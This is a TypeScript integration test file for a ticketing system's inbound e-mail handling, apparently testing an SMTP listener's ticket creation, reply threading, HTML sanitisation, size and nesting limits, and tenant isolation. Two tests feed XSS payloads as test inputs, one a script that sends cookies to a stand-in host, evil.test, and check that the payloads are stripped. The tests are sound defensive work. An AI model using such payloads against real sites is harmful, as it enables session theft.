import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../../test/support/test-app';
import { addContact, mailTenant } from '../testing/mail-fixtures';
import { nestedMessage } from '../testing/messages';
import { sendRaw, sendTo } from '../testing/smtp-client';
import { standInInbox } from '../testing/stand-in-inbox';
import { deliverInbound, findMailbox, type TicketInbox } from './deliver';
import { startSmtpListener, type SmtpListener } from './smtp-listener';

// The mail side end to end on a real database, with a real SMTP client talking to the listener.
// The ticket inbox here writes tickets and comments directly (see ticket-inbox.int.test.ts for the
// ticket core's own service behind it).
const inbox: TicketInbox = standInInbox();
let t: TestApp;
let listener: SmtpListener;
const quiet = { info() {}, warn() {}, error() {} };

beforeAll(async () => {
  t = await createTestApp();
  listener = await startSmtpListener({
    port: 0,
    host: '127.0.0.1',
    resolveMailbox: (address) => findMailbox(t.ctx.db, address),
    deliver: (message, mailbox) => deliverInbound(t.ctx, inbox, message, mailbox),
    logger: quiet,
  });
});
afterAll(async () => {
  await listener?.close();
  await t?.close();
});

const tickets = (tenantId: string) => t.ctx.db.selectFrom('tickets').selectAll().where('tenant_id', '=', tenantId).orderBy('number').execute();
const comments = (tenantId: string) => t.ctx.db.selectFrom('ticket_comments').selectAll().where('tenant_id', '=', tenantId).orderBy('created_at').execute();
const attachments = (tenantId: string) => t.ctx.db.selectFrom('ticket_attachments').selectAll().where('tenant_id', '=', tenantId).execute();

describe('inbound e-mail', () => {
  it('a new mail becomes a ticket for the matched contact, with attachments and sanitised HTML', async () => {
    const w = await mailTenant(t.ctx);
    const r = await sendTo(listener.port, {
      from: `Ann Client <${w.contact.email.toUpperCase()}>`,
      to: w.supportAddress,
      subject: 'Printer on fire',
      text: 'The printer on floor 2 is on fire.',
      html: '<p onclick="steal()">The printer is <b>on fire</b>.</p><script>fetch("https://evil.test/?c="+document.cookie)</script><a href="javascript:alert(1)">x</a>',
      attachments: [{ filename: 'smoke.png', content: Buffer.from('PNG-BYTES'), contentType: 'image/png' }],
    });
    expect(r).toMatchObject({ ok: true, response: expect.stringMatching(/new ticket T-1/) });
    const [ticket] = await tickets(w.tenant.id);
    expect(ticket).toMatchObject({ number: 1, client_id: w.client.id, requester_contact_id: w.contact.id, subject: 'Printer on fire', description: 'The printer on floor 2 is on fire.', source: 'email', tags: [] });
    const files = await attachments(w.tenant.id);
    expect(files).toEqual([expect.objectContaining({ ticket_id: ticket!.id, filename: 'smoke.png', content_type: 'image/png', size_bytes: 9 })]);
    expect(Buffer.from(files[0]!.data).toString()).toBe('PNG-BYTES');
    const recorded = await t.ctx.db.selectFrom('inbound_emails').selectAll().where('tenant_id', '=', w.tenant.id).execute();
    expect(recorded).toEqual([expect.objectContaining({ outcome: 'ticket', ticket_id: ticket!.id, from_address: w.contact.email })]);
  });

  it('a reply with [T-n] becomes a public comment from the contact, quoted history stripped; a script never reaches body_html', async () => {
    const w = await mailTenant(t.ctx);
    await sendTo(listener.port, { from: w.contact.email, to: w.supportAddress, subject: 'VPN down', text: 'No VPN since 9.' });
    const r = await sendTo(listener.port, {
      from: w.contact.email,
      to: w.supportAddress,
      subject: 'Re: [T-1] VPN down',
      text: 'Rebooted, still down.\n\nOn Mon, 3 Jan 2026 at 10:02, Acme Support <help@msp.test> wrote:\n> Please reboot the router.\n',
      html: '<div>Rebooted, <i>still</i> down.<img src=x onerror="alert(1)"><script>alert(2)</script></div><div class="gmail_quote">On Mon wrote:<blockquote>Please reboot the router.</blockquote></div>',
    });
    expect(r).toMatchObject({ ok: true, response: expect.stringContaining('comment') });
    expect(await tickets(w.tenant.id)).toHaveLength(1);
    const [comment] = await comments(w.tenant.id);
    expect(comment).toMatchObject({ public: true, author_contact_id: w.contact.id, source: 'email', body: 'Rebooted, still down.' });
    expect(comment!.body_html).toBe('<div>Rebooted, <i>still</i> down.<img /></div>');
    expect(comment!.body_html).not.toMatch(/script|onerror|alert|reboot the router/i);
  });

  it('a reply that only answers our Message-ID (no token) threads too', async () => {
    const w = await mailTenant(t.ctx);
    await sendTo(listener.port, { from: w.contact.email, to: w.supportAddress, subject: 'Laptop slow', text: 'Slow.', messageId: `<first-${w.tenant.id}@client.test>` });
    const r = await sendTo(listener.port, { from: w.contact.email, to: w.supportAddress, subject: 'Re: Laptop slow', text: 'Also hot.', inReplyTo: `<first-${w.tenant.id}@client.test>` });
    expect(r).toMatchObject({ ok: true });
    expect(await tickets(w.tenant.id)).toHaveLength(1);
    expect((await comments(w.tenant.id)).map((c) => c.body)).toEqual(['Also hot.']);
  });

  it('an auto-reply or a bounce is accepted and dropped: no ticket, no comment', async () => {
    const w = await mailTenant(t.ctx);
    await sendTo(listener.port, { from: w.contact.email, to: w.supportAddress, subject: 'Printer', text: 'Broken.' });
    const ooo = await sendTo(listener.port, { from: w.contact.email, to: w.supportAddress, subject: 'Automatic reply: [T-1] Printer', text: 'I am out of office.', headers: { 'Auto-Submitted': 'auto-replied' } });
    expect(ooo).toMatchObject({ ok: true, response: expect.stringContaining('ignored') });
    const bounce = await sendTo(listener.port, { envelope: { from: '', to: w.supportAddress }, from: 'Mail Delivery System <MAILER-DAEMON@mx.client.test>', subject: 'Undelivered Mail Returned to Sender', text: 'failed' });
    expect(bounce).toMatchObject({ ok: true });
    const bulk = await sendTo(listener.port, { from: w.contact.email, to: w.supportAddress, subject: 'Newsletter', text: 'news', headers: { Precedence: 'bulk' } });
    expect(bulk).toMatchObject({ ok: true });
    expect(await tickets(w.tenant.id)).toHaveLength(1);
    expect(await comments(w.tenant.id)).toHaveLength(0);
    const ignored = await t.ctx.db.selectFrom('inbound_emails').select('outcome').where('tenant_id', '=', w.tenant.id).where('outcome', '=', 'ignored').execute();
    expect(ignored).toHaveLength(3);
  });

  it('a message over 25 MB is refused with 552 and nothing is stored', async () => {
    const w = await mailTenant(t.ctx);
    const line = 'x'.repeat(76) + '\r\n';
    const r = await sendTo(listener.port, { from: w.contact.email, to: w.supportAddress, subject: 'huge', text: line.repeat(Math.ceil((30 * 1024 * 1024) / line.length)) });
    expect(r).toMatchObject({ ok: false, responseCode: 552 });
    if (!r.ok) expect(r.response).toContain('Message too big: the limit is 26214400 bytes (25 MB)');
    expect(await tickets(w.tenant.id)).toHaveLength(0);
  });

  it('a multipart nested 200 levels deep is refused with 554 (the sender keeps it); the listener keeps serving', async () => {
    const w = await mailTenant(t.ctx);
    const raw = nestedMessage(200).replace('From: ann@client.test', `From: ${w.contact.email}`).replace('To: help@msp.test', `To: ${w.supportAddress}`);
    const r = await sendRaw(listener.port, w.contact.email, w.supportAddress, raw);
    expect(r).toMatchObject({ ok: false, responseCode: 554 });
    if (!r.ok) expect(r.response).toContain('nested deeper than 30 levels');
    expect(await tickets(w.tenant.id)).toHaveLength(0);
    const ok = await sendRaw(listener.port, w.contact.email, w.supportAddress, nestedMessage(30).replace('From: ann@client.test', `From: ${w.contact.email}`));
    expect(ok).toMatchObject({ ok: true });
    expect((await tickets(w.tenant.id)).map((x) => x.description)).toEqual(['innermost text']);
  });

  it('a plain message without MIME headers still becomes a ticket', async () => {
    const w = await mailTenant(t.ctx);
    const raw = `From: ${w.contact.email}\r\nTo: ${w.supportAddress}\r\nSubject: Keyboard\r\n\r\nKeys stick.\r\nEspecially E.\r\n`;
    expect(await sendRaw(listener.port, w.contact.email, w.supportAddress, raw)).toMatchObject({ ok: true });
    expect(await tickets(w.tenant.id)).toEqual([expect.objectContaining({ subject: 'Keyboard', description: 'Keys stick.\nEspecially E.', requester_contact_id: w.contact.id })]);
  });

  it('an unknown sender: a triage ticket when the tenant says triage', async () => {
    const w = await mailTenant(t.ctx, 'triage');
    const r = await sendTo(listener.port, { from: 'Stranger <stranger@unknown.test>', to: w.supportAddress, subject: 'Hello?', text: 'Who do I ask?' });
    expect(r).toMatchObject({ ok: true });
    expect(await tickets(w.tenant.id)).toEqual([expect.objectContaining({ subject: 'Hello?', requester_contact_id: null, tags: ['triage'] })]);
  });

  it('an unknown sender: refused with 550 when the tenant says refuse', async () => {
    const w = await mailTenant(t.ctx, 'refuse');
    const r = await sendTo(listener.port, { from: 'stranger@unknown.test', to: w.supportAddress, subject: 'Hello?', text: 'x' });
    expect(r).toMatchObject({ ok: false, responseCode: 550 });
    if (!r.ok) expect(r.response).toContain('not a known contact');
    expect(await tickets(w.tenant.id)).toHaveLength(0);
    // a known contact of the same tenant still gets through
    expect(await sendTo(listener.port, { from: w.contact.email, to: w.supportAddress, subject: 'Known', text: 'x' })).toMatchObject({ ok: true });
  });

  it('mail to an address that is no tenant\'s support address is refused with 550', async () => {
    const r = await sendTo(listener.port, { from: 'ann@client.test', to: 'help@nowhere.test', subject: 'x', text: 'y' });
    expect(r).toMatchObject({ ok: false, responseCode: 550 });
    if (!r.ok) expect(r.response).toContain('no such mailbox');
  });

  it('a token for another client\'s ticket does not let a contact write into it: a new ticket instead', async () => {
    const w = await mailTenant(t.ctx);
    await sendTo(listener.port, { from: w.contact.email, to: w.supportAddress, subject: 'Payroll export', text: 'Confidential.' });
    const other = await t.ctx.db.insertInto('clients').values({ tenant_id: w.tenant.id, name: 'Other client' }).returning('id').executeTakeFirstOrThrow();
    const mallory = await addContact(t.ctx, w.tenant.id, other.id, `mallory-${w.tenant.id.slice(0, 8)}@other.test`, 'Mallory');
    await sendTo(listener.port, { from: mallory.email, to: w.supportAddress, subject: 'Re: [T-1] Payroll export', text: 'Send it to me.' });
    expect(await comments(w.tenant.id)).toHaveLength(0);
    expect((await tickets(w.tenant.id)).map((x) => [x.number, x.client_id])).toEqual([
      [1, w.client.id],
      [2, other.id],
    ]);
  });

  it('the same message delivered twice makes one ticket', async () => {
    const w = await mailTenant(t.ctx);
    const mail = { from: w.contact.email, to: w.supportAddress, subject: 'Twice', text: 'x', messageId: `<dup-${w.tenant.id}@client.test>` };
    expect(await sendTo(listener.port, mail)).toMatchObject({ ok: true });
    expect(await sendTo(listener.port, mail)).toMatchObject({ ok: true, response: expect.stringContaining('already received') });
    expect(await tickets(w.tenant.id)).toHaveLength(1);
  });
});
